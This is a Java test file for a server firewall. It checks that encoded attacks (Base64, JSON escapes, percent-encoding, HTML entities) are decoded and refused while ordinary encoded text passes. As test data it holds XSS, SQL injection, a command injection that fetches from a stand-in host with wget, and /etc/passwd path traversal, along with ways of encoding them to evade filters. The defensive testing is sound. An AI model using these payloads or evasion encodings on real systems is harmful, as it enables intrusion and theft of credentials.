package dev.switchboard.embedded.security;

import static org.assertj.core.api.Assertions.assertThat;

import dev.switchboard.api.CloseCodes;
import dev.switchboard.embedded.SwitchboardServer;
import dev.switchboard.embedded.firewall.LoopbackClient;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Attacks the detectors used to let through because they were encoded: Base64 in the sgc protocol's
 * {@code sgc@b64:} form, JSON <code>&#92;u</code> escapes, percent-encoding (in a message and in the request path) and HTML
 * character references. Each is sent over a real connection and must be refused; the same text in plain words is
 * let through, and each refusal is counted under the detector of the decoded payload, so the refusals come from what
 * was encoded and not from the wrapping.
 */
class EncodedAttacksAreDecodedBeforeInspectionTest {

    private static SwitchboardServer server;

    @BeforeAll
    static void start() throws Exception {
        server = EveryDetector.start();
    }

    @AfterAll
    static void stop() throws Exception {
        server.stop();
    }

    private static String jsonEscaped(String text) {
        StringBuilder out = new StringBuilder();
        text.chars().forEach(c -> out.append(String.format("\\u%04x", c)));
        return out.toString();
    }

    private static String percentEncoded(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            out.append(String.format("%%%02X", b));
        }
        return out.toString();
    }

    private static String htmlEntities(String text) {
        StringBuilder out = new StringBuilder();
        text.chars()
                .forEach(c -> out.append("&#x").append(Integer.toHexString(c)).append(';'));
        return out.toString();
    }

    /** Sends one message on a fresh connection and returns its close code and the detector that refused it. */
    private static String refusal(String from, String message) throws Exception {
        Map<String, Long> before = FirewallProbe.firewall.counters();
        try (LoopbackClient client = LoopbackClient.upgrade(from, server.port())) {
            assertThat(client.status).isEqualTo(101);
            client.sendText(message);
            int code = client.awaitCloseCode();
            Map<String, Long> after = FirewallProbe.firewall.counters();
            String rules = after.keySet().stream()
                    .filter(rule -> !after.get(rule).equals(before.getOrDefault(rule, 0L)))
                    .sorted()
                    .collect(java.util.stream.Collectors.joining(","));
            return code + " " + rules;
        }
    }

    @Test
    void anXssPayloadInSgcBase64IsRefused() throws Exception {
        String b64 = "sgc@b64:"
                + Base64.getEncoder().encodeToString("<svg/onload=alert(1)>".getBytes(StandardCharsets.UTF_8));
        assertThat(refusal("127.0.0.70", SgcCalls.publish("news", b64)))
                .isEqualTo(CloseCodes.POLICY_VIOLATION + " xss");
    }

    @Test
    void aSqlInjectionInJsonUnicodeEscapesIsRefused() throws Exception {
        String sql = jsonEscaped("1' union select password from users--");
        assertThat(refusal("127.0.0.71", SgcCalls.publish("news", sql)))
                .isEqualTo(CloseCodes.POLICY_VIOLATION + " sql-injection");
    }

    @Test
    void aCommandInjectionInHtmlEntitiesIsRefused() throws Exception {
        assertThat(refusal("127.0.0.72", SgcCalls.publish("news", htmlEntities("a; wget http://203.0.113.9/x"))))
                .isEqualTo(CloseCodes.POLICY_VIOLATION + " command-injection");
    }

    @Test
    void aPathTraversalPercentEncodedInAMessageIsRefused() throws Exception {
        assertThat(refusal("127.0.0.73", SgcCalls.publish("news", percentEncoded("../../../etc/passwd"))))
                .isEqualTo(CloseCodes.POLICY_VIOLATION + " path-traversal");
    }

    @Test
    void aPathTraversalPercentEncodedInTheRequestPathIsRefused() throws Exception {
        // Jetty itself refuses ambiguous encodings in a path (%2f, %2e%2e segments, %25) with 400 before any filter
        // runs; what it lets through reaches the detectors percent-encoded and must be decoded there.
        assertThat(LoopbackClient.get("127.0.0.74", server.port(), "/files/%252e%252e%252fetc%252fpasswd", Map.of()))
                .as("refused by the server or the firewall, never served")
                .isIn(400, 403);
        assertThat(LoopbackClient.get(
                        "127.0.0.74",
                        server.port(),
                        "/users/1%27%20union%20select%20password%20from" + "%20users",
                        Map.of()))
                .isEqualTo(403);
        assertThat(LoopbackClient.get(
                        "127.0.0.74", server.port(), "/files/%3Cscript%3Ealert(1)%3C/script%3E", Map.of()))
                .isEqualTo(403);
        assertThat(LoopbackClient.get("127.0.0.74", server.port(), "/health?q=%2565%2574%2563", Map.of()))
                .as("an ordinary encoded query passes")
                .isEqualTo(200);
    }

    @Test
    void theSameEncodingsOfOrdinaryTextPass() throws Exception {
        String text = "See you at 10, bring the slides";
        for (String query : new String[] {
            "sgc@b64:" + Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8)),
            percentEncoded(jsonEscaped(text)),
            percentEncoded(htmlEntities(text)),
            percentEncoded(percentEncoded(text))
        }) {
            assertThat(LoopbackClient.get("127.0.0.75", server.port(), "/health?q=" + query, Map.of()))
                    .as(query)
                    .isEqualTo(200);
        }
        String attack = "<script>alert(1)</script>";
        for (String query : new String[] {
            "sgc@b64:" + Base64.getEncoder().encodeToString(attack.getBytes(StandardCharsets.UTF_8)),
            percentEncoded(jsonEscaped(attack)),
            percentEncoded(htmlEntities(attack)),
            percentEncoded(percentEncoded(attack))
        }) {
            assertThat(LoopbackClient.get("127.0.0.76", server.port(), "/health?q=" + query, Map.of()))
                    .as(query)
                    .isEqualTo(403);
        }
    }
}
